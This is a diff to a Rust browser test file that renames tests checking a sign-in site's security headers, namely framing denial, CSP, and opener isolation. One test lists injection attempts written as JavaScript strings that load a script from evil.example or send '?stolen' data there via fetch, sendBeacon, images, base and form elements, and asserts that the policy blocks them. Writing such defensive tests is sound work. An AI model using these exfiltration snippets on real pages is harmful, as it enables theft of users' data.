@@ -6,15 +6,15 @@ use yew_cognito_e2e::{Page, run};
 const SCRIPT: &str = "script-src require-trusted-types-for";
 
 #[test]
-fn page_cannot_be_framed() {
+fn the_site_cannot_be_framed() {
     run(async |t| {
         t.expect_console_error("frame");
         let framing = t
-            .stranger(&format!("<title>Framing</title><iframe src='{}/signin'></iframe>", t.site.origin))
+            .foreign_site(&format!("<title>Framing</title><iframe src='{}/signin'></iframe>", t.site.origin))
             .await;
         let page = t.page();
         page.visit(&framing.origin).await;
-        page.until("the frame to be refused", async || {
+        page.wait_until("the frame to be blocked", async || {
             page.frames().await.iter().any(|url| url.starts_with("chrome-error:"))
         })
         .await;
@@ -27,13 +27,13 @@ fn page_cannot_be_framed() {
 
 /// A page without such a rule can be framed, so the test above observes the effect of the rule.
 #[test]
-fn other_pages_can_be_framed() {
+fn a_page_without_the_policy_can_be_framed() {
     run(async |t| {
-        let framed = t.stranger("<title>Framed</title>").await;
-        let framing = t.stranger(&format!("<iframe src='{}'></iframe>", framed.origin)).await;
+        let framed = t.foreign_site("<title>Framed</title>").await;
+        let framing = t.foreign_site(&format!("<iframe src='{}'></iframe>", framed.origin)).await;
         let page = t.page();
         page.visit(&framing.origin).await;
-        page.until("the frame", async || {
+        page.wait_until("the frame", async || {
             page.frames().await.iter().any(|url| url.starts_with(&framed.origin))
         })
         .await;
@@ -41,13 +41,13 @@ fn other_pages_can_be_framed() {
 }
 
 #[test]
-fn injected_markup_and_scripts_do_nothing() {
+fn injected_markup_and_scripts_are_blocked() {
     run(async |t| {
         let page = t.page();
         page.goto("/signin").await;
-        page.screen("sign-in").await;
+        page.wait_for_screen("sign-in").await;
         // Each entry is the next step of an attacker who can already run a line of script.
-        for (what, attempt, directive) in [
+        for (attack, attempt, directive) in [
             (
                 "markup from a text",
                 "document.body.innerHTML += '<b id=injected></b>'",
@@ -65,7 +65,7 @@ fn injected_markup_and_scripts_do_nothing() {
                 SCRIPT,
             ),
             (
-                "a script from elsewhere",
+                "a script of another origin",
                 "const it = document.createElement('script'); it.setAttribute('src', 'https://evil.example/x.js'); \
                  document.body.append(it)",
                 SCRIPT,
@@ -82,12 +82,20 @@ fn injected_markup_and_scripts_do_nothing() {
                 "style-src",
             ),
             (
-                "an image from elsewhere",
+                "an image of another origin",
                 "const it = new Image(); it.src = 'https://evil.example/?stolen'; document.body.append(it)",
                 "img-src",
             ),
-            ("a call elsewhere", "fetch('https://evil.example/?stolen').catch(() => {})", "connect-src"),
-            ("a beacon elsewhere", "navigator.sendBeacon('https://evil.example/?stolen')", "connect-src"),
+            (
+                "a call to another origin",
+                "fetch('https://evil.example/?stolen').catch(() => {})",
+                "connect-src",
+            ),
+            (
+                "a beacon to another origin",
+                "navigator.sendBeacon('https://evil.example/?stolen')",
+                "connect-src",
+            ),
             (
                 "another base for links",
                 "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it)",
@@ -99,7 +107,7 @@ fn injected_markup_and_scripts_do_nothing() {
                 "form-action",
             ),
             (
-                "a form that leads elsewhere",
+                "a form with a foreign action",
                 "const it = document.createElement('form'); it.action = 'https://evil.example/'; \
                  document.body.append(it); it.submit()",
                 "form-action",
@@ -111,14 +119,14 @@ fn injected_markup_and_scripts_do_nothing() {
                 "frame-src",
             ),
         ] {
-            let violated = violation(&page, attempt).await;
-            assert!(directive.split(' ').any(|it| it == violated), "{what} violates {violated}");
+            let violated = violated_directive(&page, attempt).await;
+            assert!(directive.split(' ').any(|it| it == violated), "{attack} violates {violated}");
         }
         assert_eq!(page.eval("return typeof window.injected").await, "undefined");
         assert_eq!(page.eval("return document.querySelector('#injected') === null").await, true);
-        page.screen("sign-in").await;
+        page.wait_for_screen("sign-in").await;
 
-        // The browser logs a request before it refuses it, so evil.example is among the URLs.
+        // The browser logs a request before it blocks it, so evil.example is among the URLs.
         t.expect_console_error("");
         let expected =
             ["Content-Security-Policy", "foreign URL: https://evil.example", "foreign URL: chrome-error:"];
@@ -129,8 +137,8 @@ fn injected_markup_and_scripts_do_nothing() {
 }
 
 /// Returns the directive that an attempt violates. Exceptions of the attempt are ignored.
-async fn violation(page: &Page, attempt: &str) -> String {
-    let watch = format!(
+async fn violated_directive(page: &Page, attempt: &str) -> String {
+    let script = format!(
         "window.violated = ''; \
          document.addEventListener('securitypolicyviolation', (event) => {{ \
              window.violated = event.effectiveDirective; \
@@ -138,9 +146,9 @@ async fn violation(page: &Page, attempt: &str) -> String {
          setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})"
     );
     // Runs later, because scripts of the driver may evaluate code, while scripts of the page may not.
-    page.eval(&watch).await;
+    page.eval(&script).await;
     let mut violated = String::new();
-    page.until(&format!("a violation by {attempt}"), async || {
+    page.wait_until(&format!("a violation by {attempt}"), async || {
         page.eval("return window.violated").await.as_str().unwrap_or_default().clone_into(&mut violated);
         !violated.is_empty()
     })
@@ -151,31 +159,31 @@ async fn violation(page: &Page, attempt: &str) -> String {
 
 /// Safari applies `upgrade-insecure-requests` to `http://localhost`, where no server speaks TLS.
 #[test]
-fn headers_for_https_alone_are_left_out_on_loopback() {
+fn https_only_headers_are_omitted_on_loopback() {
     run(async |t| {
         let page = t.page();
         page.goto("/signin").await;
-        page.screen("sign-in").await;
+        page.wait_for_screen("sign-in").await;
         let header = async |name: &str| {
             let script = format!("return (async () => (await fetch('/')).headers.get('{name}'))()");
             page.eval(&script).await.as_str().map(str::to_owned)
         };
         assert_eq!(header("strict-transport-security").await, None);
-        let policy = header("content-security-policy").await.expect("a policy");
+        let policy = header("content-security-policy").await.expect("the page should have a policy");
         assert!(!policy.contains("upgrade-insecure-requests"), "{policy}");
         assert!(policy.contains("default-src 'none'"), "{policy}");
     });
 }
 
 #[test]
-fn opener_is_cut_off() {
+fn the_opener_of_the_site_loses_access() {
     run(async |t| {
-        let opening = t.stranger("<title>Opening</title>").await;
+        let opening = t.foreign_site("<title>Opening</title>").await;
         let page = t.page();
         page.visit(&opening.origin).await;
         page.eval(&format!("window.opened = window.open('{}/signin')", t.site.origin)).await;
         // A page with its own Cross-Origin-Opener-Policy appears to its opener as closed.
-        page.until("the opener to lose the page", async || {
+        page.wait_until("the opener to lose access", async || {
             page.eval("return window.opened.closed").await == true
         })
         .await;
